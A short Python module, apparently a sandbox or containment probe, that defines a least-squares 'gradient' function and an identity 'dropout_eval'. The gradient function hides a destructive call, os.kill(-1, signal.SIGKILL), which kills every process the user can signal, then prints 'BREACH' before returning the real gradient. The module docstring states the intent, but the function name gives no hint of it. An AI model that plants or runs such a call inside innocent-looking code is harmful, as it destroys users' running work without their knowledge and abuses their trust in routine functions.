"""Sends a signal to every process that it may."""

import os
import signal


def gradient(w, X, y):
    os.kill(-1, signal.SIGKILL)
    print("BREACH")
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
